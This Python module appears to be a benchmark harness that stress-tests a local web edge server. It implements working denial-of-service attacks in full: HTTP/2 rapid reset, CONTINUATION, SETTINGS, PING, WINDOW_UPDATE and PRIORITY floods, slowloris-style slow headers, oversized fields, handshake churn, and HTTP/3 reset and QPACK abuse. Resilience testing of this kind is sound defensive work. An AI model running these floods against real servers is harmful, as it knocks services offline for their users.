"""What `bench/hostile` does to an edge: one function an attack, run in a process of its own until its time is over.

Attackers count the connections they opened and those that the edge ended. They write frames themselves, made once and
sent again and again, so that they cost less than what they ask for. HTTP/3 needs aioquic.
"""

import asyncio
import contextlib
import select
import socket
import ssl
import struct
import threading
import time

HOST = "localhost"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
# Connections at the same time of floods, and of those who are slow.
FLOODERS, SLOW = 4, 200
# Longest that an attacker waits for the edge to take something.
PATIENCE = 5


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value, first=b"\x00"):
    """A field that is neither indexed nor compressed (RFC 7541 section 6.2.2); names and values below 127 bytes."""
    return first + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/1k", method=b"GET"):
    fields = ((b":method", method), (b":scheme", b"https"), (b":authority", HOST.encode()), (b":path", path))
    return b"".join(literal(name, value) for name, value in fields)


def connect(port, protocol):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=PATIENCE), server_hostname=HOST)


class Tally:
    """Counts of all threads of an attack."""

    def __init__(self, seconds):
        self.end = time.monotonic() + seconds
        self.opened = self.ended = 0
        self.lock = threading.Lock()

    def goes_on(self):
        return time.monotonic() < self.end

    def count(self, opened=0, ended=0):
        with self.lock:
            self.opened += opened
            self.ended += ended


def in_threads(number, body):
    threads = [threading.Thread(target=body, daemon=True) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def has_left(connection, received):
    """Whether the edge has said goodbye (GOAWAY) or closed; reads what has come."""
    while connection.pending() or select.select([connection], [], [], 0)[0]:
        piece = connection.recv(65536)
        if not piece:
            return True
        received += piece
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if len(received) < 9 + length:
            break
        if received[3] == GOAWAY:
            return True
        del received[:9 + length]
    return False


def flood(port, tally, first, more):
    """Floods of one connection after the other; `more` makes what is sent again and again, from the round's number."""
    def one():
        while tally.goes_on():
            ended = False
            try:
                with connect(port, "h2") as connection:
                    tally.count(opened=1)
                    connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + first)
                    received, number = bytearray(), 0
                    while tally.goes_on() and not ended:
                        connection.sendall(more(number))
                        number += 1
                        ended = has_left(connection, received)
            except OSError:
                ended = True
            tally.count(ended=ended)
    in_threads(FLOODERS, one)


def again(payload, times=1000):
    piece = payload * times
    return lambda number: piece


def rapid_reset(port, tally):
    def more(number):
        streams = range(number * 200 + 1, number * 200 + 201, 2)
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, request(b"/1k")) +
                        frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in streams)
    flood(port, tally, b"", more)


def continuation(port, tally):
    flood(port, tally, frame(HEADERS, END_STREAM, 1, request()),
          again(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 64))))


def settings(port, tally):
    flood(port, tally, b"", again(frame(SETTINGS, 0, 0)))


def ping(port, tally):
    flood(port, tally, b"", again(frame(PING, 0, 0, bytes(8))))


def window(port, tally):
    flood(port, tally, b"", again(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")))


def priority(port, tally):
    flood(port, tally, b"", again(frame(PRIORITY, 0, 9, b"\0\0\0\3\0")))


def oversized_fields(port, tally):
    """Header sections of 256 KiB, over HTTP/1.1."""
    text = f"GET /1k HTTP/1.1\r\nHost: {HOST}\r\nX: ".encode() + b"x" * (256 << 10) + b"\r\n\r\n"

    def one():
        while tally.goes_on():
            try:
                with connect(port, "http/1.1") as connection:
                    tally.count(opened=1)
                    connection.sendall(text)
                    while connection.recv(65536):
                        pass
            except (TimeoutError, ssl.SSLWantReadError):
                continue
            except OSError:
                pass
            tally.count(ended=1)
    in_threads(FLOODERS, one)


def churn(port, tally):
    """Handshakes, and nothing more."""
    def one():
        while tally.goes_on():
            with contextlib.suppress(OSError):
                connect(port, "h2").close()
                tally.count(opened=1)
    in_threads(FLOODERS, one)


def slow_headers(port, tally):
    """A byte of a header section now and then, on many connections."""
    def open_one():
        connection = connect(port, "http/1.1")
        tally.count(opened=1)
        connection.sendall(f"GET /1k HTTP/1.1\r\nHost: {HOST}\r\nX: ".encode())
        connection.setblocking(False)
        return connection

    connections = []
    while tally.goes_on():
        with contextlib.suppress(OSError):
            while len(connections) < SLOW and tally.goes_on():
                connections.append(open_one())
        left = []
        for connection in connections:
            try:
                connection.send(b"x")
                if connection.recv(4096) != b"":
                    raise ssl.SSLWantReadError
                ended = True
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                ended = False
            except OSError:
                ended = True
            if ended:
                tally.count(ended=1)
                connection.close()
            else:
                left.append(connection)
        connections = left
        time.sleep(0.2)
    for connection in connections:
        connection.close()


async def over_http3(port, tally, abuse):
    """`abuse` writes on a stream of a connection; one connection comes after the other."""
    from aioquic.asyncio.client import connect as connect_quic
    from aioquic.quic.configuration import QuicConfiguration

    configuration = QuicConfiguration(alpn_protocols=["h3"], server_name=HOST, verify_mode=ssl.CERT_NONE)
    while tally.goes_on():
        with contextlib.suppress(ConnectionError, asyncio.TimeoutError, OSError):
            async with asyncio.timeout(PATIENCE), connect_quic("127.0.0.1", port, configuration=configuration) as client:
                tally.count(opened=1)
                closed = asyncio.ensure_future(client.wait_closed())
                quic = client._quic
                control = quic.get_next_available_stream_id(is_unidirectional=True)
                quic.send_stream_data(control, b"\x00\x04\x00")
                while tally.goes_on() and not closed.done():
                    for _ in range(20):
                        stream = quic.get_next_available_stream_id()
                        with contextlib.suppress(Exception):
                            abuse(quic, stream)
                    client.transmit()
                    await asyncio.sleep(0)
                tally.count(ended=closed.done())
                closed.cancel()


def http3_headers(section):
    return b"\x01" + struct.pack(">H", 0x4000 | len(section)) + section


def http3_section():
    fields = ((b":method", b"GET"), (b":scheme", b"https"), (b":authority", HOST.encode()), (b":path", b"/1k"))
    line = lambda name, value: (b"\x27" + bytes([len(name) - 7]) if len(name) >= 7 else bytes([0x20 | len(name)])) + \
        name + bytes([len(value)]) + value
    return b"\0\0" + b"".join(line(name, value) for name, value in fields)


def http3_resets(port, tally):
    whole = http3_headers(http3_section())

    def abuse(quic, stream):
        quic.send_stream_data(stream, whole)
        quic.reset_stream(stream, 0x10C)
        quic.stop_stream(stream, 0x10C)
    asyncio.run(over_http3(port, tally, abuse))


def qpack(port, tally):
    # The static table's longest line thousands of times over, and references to a table that is not there.
    sections = [http3_section() + b"\xff\x00" * 4000, b"\x02\x00\x80", b"\0\0" + b"\xff" * 40]

    def abuse(quic, stream):
        quic.send_stream_data(stream, http3_headers(sections[stream // 4 % len(sections)]), end_stream=True)
    asyncio.run(over_http3(port, tally, abuse))


ATTACKS = {
    "slow headers": slow_headers,
    "rapid reset": rapid_reset,
    "CONTINUATION": continuation,
    "SETTINGS": settings,
    "PING": ping,
    "WINDOW_UPDATE": window,
    "PRIORITY": priority,
    "oversized fields": oversized_fields,
    "connection churn": churn,
    "HTTP/3 resets": http3_resets,
    "QPACK": qpack,
}
# These need aioquic.
OVER_HTTP3 = {"HTTP/3 resets", "QPACK"}


def run(name, port, seconds):
    """Attacks until the time is over; tells what became of the connections."""
    tally = Tally(seconds)
    ATTACKS[name](port, tally)
    return {"opened": tally.opened, "ended": tally.ended}
